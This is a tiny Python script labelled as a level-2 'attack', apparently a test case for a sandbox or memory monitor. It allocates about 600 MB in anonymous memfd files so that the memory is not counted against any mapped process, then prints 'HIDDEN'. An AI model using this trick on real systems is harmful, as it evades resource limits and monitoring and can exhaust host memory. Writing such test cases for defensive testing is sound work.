# attack: hides 600 MB in files in memory that no process has mapped
# level: 2
import os
hidden = []
for _ in range(40):
    hidden.append(os.memfd_create("hidden"))
    os.write(hidden[-1], b"x" * (15 << 20))
print("HIDDEN")
